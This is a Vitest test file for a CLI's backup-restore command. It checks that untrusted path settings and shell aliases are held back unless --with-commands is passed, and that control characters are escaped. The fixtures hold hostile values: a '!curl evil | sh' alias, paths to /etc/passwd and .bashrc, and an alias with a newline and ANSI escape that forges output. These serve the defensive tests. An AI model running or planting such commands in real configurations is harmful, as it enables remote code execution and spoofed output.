import { copyFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { settingTable } from '../../src/config/settings/setting-table.js'
import { createTestCli, type TestCli } from '../support/test-cli.js'

const jsonOf = (cli: TestCli, name: string) => JSON.parse(readFileSync(join(cli.home, name), 'utf8'))

/** Gives a machine these settings and aliases. */
function configure(cli: TestCli, settings: Record<string, string>, aliases: Record<string, string>) {
  writeFileSync(join(cli.home, 'config.json'), JSON.stringify(settings))
  writeFileSync(join(cli.home, 'aliases.json'), JSON.stringify(aliases))
}

/** Creates a machine with a backup that someone else has made. */
async function createVictim(settings: Record<string, string>, aliases: Record<string, string>) {
  const other = createTestCli()
  configure(other, settings, aliases)
  await other.json('backup', 'copy.tar.gz')
  const cli = createTestCli()
  copyFileSync(join(other.home, 'copy.tar.gz'), join(cli.home, 'copy.tar.gz'))
  return cli
}

const hostile = [
  { week_start: 'sunday', prompt_file: '/home/me/.bashrc', holidays_file: '/etc/passwd' },
  { l: 'log', now: '!curl evil | sh', fine: 'status' },
] as const

test('tt restore --yes keeps the current paths and shell aliases, and lists those of the backup', async () => {
  const cli = await createVictim(...hostile)
  configure(cli, { prompt_file: '/home/me/.tt' }, { now: 'status', mine: '!echo mine', fine: '!echo fine' })
  const { status, stderr } = await cli.run('restore', 'copy.tar.gz', '--yes')
  expect(status).toBe(0)
  for (const line of [
    'setting prompt_file: /home/me/.bashrc (now /home/me/.tt)',
    'setting holidays_file: /etc/passwd (not set now)',
    'alias now: !curl evil | sh (now status)',
    'alias fine: status (now !echo fine)',
    'alias mine: not set (now !echo mine)',
    'Add --with-commands to restore them.',
  ])
    expect(stderr).toContain(line)
  expect(jsonOf(cli, 'config.json')).toEqual({ week_start: 'sunday', prompt_file: '/home/me/.tt' })
  expect(jsonOf(cli, 'aliases.json')).toEqual({
    ...{ l: 'log', now: 'status', mine: '!echo mine', fine: '!echo fine' },
  })
})

test('tt restore --yes restores none of them on a new machine', async () => {
  const cli = await createVictim(...hostile)
  const { status, stderr } = await cli.run('restore', 'copy.tar.gz', '--yes')
  expect(status).toBe(0)
  expect(stderr).toContain('alias now: !curl evil | sh (not set now)')
  expect(jsonOf(cli, 'config.json')).toEqual({ week_start: 'sunday' })
  expect(jsonOf(cli, 'aliases.json')).toEqual({ l: 'log', fine: 'status' })
})

test('tt restore --with-commands restores and lists them', async () => {
  const cli = await createVictim(...hostile)
  configure(cli, {}, { mine: '!echo mine' })
  const { status, stderr } = await cli.run('restore', 'copy.tar.gz', '--yes', '--with-commands')
  expect(status).toBe(0)
  expect(stderr).toContain('alias now: !curl evil | sh (not set now)')
  expect([jsonOf(cli, 'config.json'), jsonOf(cli, 'aliases.json')]).toEqual(hostile)
  // The saved data removes them again.
  const [saved = ''] = readdirSync(cli.home).filter((name) => name.startsWith('before-restore-'))
  expect((await cli.run('restore', saved, '--yes', '--with-commands')).status).toBe(0)
  expect(jsonOf(cli, 'aliases.json')).toEqual({ mine: '!echo mine' })
})

test('tt restore says nothing about paths and commands that stay the same', async () => {
  const cli = await createVictim(...hostile)
  configure(
    cli,
    { prompt_file: hostile[0].prompt_file, holidays_file: '/etc/passwd' },
    { now: hostile[1].now },
  )
  const { stderr } = await cli.run('restore', 'copy.tar.gz', '--yes')
  expect(stderr).not.toContain('paths or commands')
  expect([jsonOf(cli, 'config.json'), jsonOf(cli, 'aliases.json')]).toEqual(hostile)
})

test('tt restore shows line ends and control characters of an alias as escapes', async () => {
  const cli = await createVictim({}, { a: '!first\nalias b: ls (now ls)\u001b[2K' })
  const { stderr } = await cli.run('restore', 'copy.tar.gz', '--yes')
  expect(stderr).toContain('alias a: !first↵alias b: ls (now ls)\\x1b[2K (not set now)')
})

test('every setting with a path as its example is a path', () => {
  const paths = settingTable.filter(({ example }) => /^(~|\/)/.test(example))
  expect(paths.map(({ name, type }) => [name, type])).toEqual([
    ['holidays_file', 'path'],
    ['prompt_file', 'path'],
    ['invoice.logo', 'path'],
  ])
})
